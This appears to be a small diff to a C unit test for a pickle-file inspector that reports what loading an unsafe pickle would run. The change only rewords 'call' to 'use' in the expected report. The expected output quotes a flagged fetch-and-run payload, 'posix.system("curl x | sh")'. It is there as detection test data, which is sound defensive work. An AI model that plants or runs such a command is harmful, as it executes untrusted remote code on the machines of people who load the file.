@@ -321,8 +321,8 @@ TEST(details_of_an_unsafe_file_begin_with_what_a_load_would_run)
         "nothing.\n"
         "   call    posix.system(\"curl x | sh\")\n"
         "   where   unsafe_panels_test.pkl  byte 21 GLOBAL  byte 49 REDUCE\n"
-        " globals   ✗ posix.system                  1 call   runs a shell command\n"
-        "           ✓ collections.OrderedDict       1 call   builds a dictionary\n"
+        " globals   ✗ posix.system                  1 use   runs a shell command\n"
+        "           ✓ collections.OrderedDict       1 use   builds a dictionary\n"
         " format    pickle (protocol 2), 82B\n"
         " holds     a dict with 3 keys: 0 tensors\n");
     CHECK(explorer_next_alarm(&s.explorer));
